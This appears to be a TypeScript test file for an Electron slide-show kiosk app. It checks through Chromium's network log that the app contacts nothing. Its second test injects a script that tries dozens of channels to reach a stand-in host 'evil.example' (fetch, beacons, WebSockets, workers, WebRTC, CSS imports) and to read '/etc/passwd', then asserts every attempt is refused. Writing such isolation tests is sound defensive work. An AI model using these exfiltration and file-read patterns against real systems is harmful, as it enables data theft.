import { readFileSync } from 'node:fs';
import path from 'node:path';
import { setTimeout as wait } from 'node:timers/promises';
import { expect, history, remember, root, test } from './support/kiosk.ts';
import { temporaryFolder } from './support/library.ts';

/** What of Chromium’s own log speaks of the network: requests, names looked up, bytes and connections. */
function networkUse(file: string): string[] {
  // One event a line; an app that quits leaves the log without its end.
  const lines = readFileSync(file, 'utf8').split('\n');
  const { constants } = JSON.parse(`${(lines[0] ?? '').replace(/,$/, '')}}`) as {
    constants: { logEventTypes: Record<string, number> };
  };
  const speaking =
    /^(URL_REQUEST_START_JOB|HOST_RESOLVER_MANAGER_JOB|TCP_CONNECT|UDP_BYTES_SENT|DNS_TRANSACTION)$/;
  const types = Object.entries(constants.logEventTypes).filter(([name]) => speaking.test(name));
  return lines.filter((line) =>
    types.some(([, type]) => line.includes(`"type":${String(type)}}`) && line.includes('"params"')),
  );
}

test('a full round of the loop, and a visit, ask the network for nothing', async ({
  openKiosk,
}) => {
  test.setTimeout(120_000);
  const own = temporaryFolder();
  const log = path.join(own.folder, 'net.json');
  const { app, page, health } = await openKiosk({
    library: path.join(root, 'slides'),
    args: [`--log-net-log=${log}`, '--speed', '40'],
  });
  await remember(page);
  const { library } = (await (await fetch(health)).json()) as { library: { decks: number } };
  const seen = async () => new Set((await history(page)).map((each) => each.split(' ')[1])).size;
  await expect.poll(seen, { timeout: 90_000 }).toBe(library.decks);
  await page.mouse.click(400, 300);
  await wait(1_000);
  await app?.close();
  expect(networkUse(log)).toEqual([]);
  own.remove();
});

test('a page that tries everything reaches nobody', async ({ openKiosk }) => {
  const own = temporaryFolder();
  const log = path.join(own.folder, 'net.json');
  const { app, page } = await openKiosk({ args: [`--log-net-log=${log}`, '--speed', '0.1'] });
  const attack = async () => {
    const evil = 'https://evil.example';
    const link = (rel: string) =>
      document.head.append(
        Object.assign(document.createElement('link'), { rel, href: `${evil}/` }),
      );
    for (const rel of ['prefetch', 'preload', 'preconnect', 'dns-prefetch', 'stylesheet', 'icon']) {
      link(rel);
    }
    const add = (name: string, more: object) =>
      document.body.append(Object.assign(document.createElement(name), more));
    for (const name of ['img', 'iframe', 'video', 'audio', 'embed', 'script', 'source', 'track']) {
      add(name, { src: `${evil}/${name}` });
      add(name, { src: `file:///etc/passwd?${name}` });
    }
    add('video', { poster: `${evil}/poster` });
    add('a', { href: evil, ping: `${evil}/ping`, id: 'ping' });
    document.getElementById('ping')?.click();
    add('div', { style: `background: url(${evil}/style)` });
    add('style', { textContent: `@import '${evil}/sheet'; body { background: url(${evil}/b) }` });
    navigator.sendBeacon(`${evil}/beacon`);
    const tries = [
      () => fetch(evil),
      () => fetch('file:///etc/passwd'),
      () => fetch('http://127.0.0.1:9/'),
      () => import(/* @vite-ignore */ `${evil}/module.js`),
      () => new EventSource(evil),
      () => new WebSocket('wss://evil.example'),
      () => new Worker(`${evil}/worker.js`),
      () => new Worker('file:///etc/passwd'),
      () => new FontFace('x', `url(${evil}/font)`).load(),
      () => new WebTransport('https://evil.example:4433/').ready,
    ];
    await Promise.allSettled(tries.map(async (each) => each()));
    const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:192.0.2.1:3478' }] });
    const named = new RTCPeerConnection({ iceServers: [{ urls: 'stun:evil.example' }] });
    for (const each of [peer, named]) {
      each.createDataChannel('x');
      await each.setLocalDescription(await each.createOffer());
    }
    await new Promise((resolve) => setTimeout(resolve, 1_500));
    return fetch('file:///etc/passwd').then(
      () => 'read',
      () => 'refused',
    );
  };
  const file: unknown = await app?.evaluate(
    ({ webContents }, script) =>
      webContents.getAllWebContents()[0]?.executeJavaScript(script, true),
    `(${attack.toString()})()`,
  );
  expect(file).toBe('refused');
  expect(page.url()).toBe('app://vitrine/');
  await app?.close();
  expect(networkUse(log)).toEqual([]);
  own.remove();
});
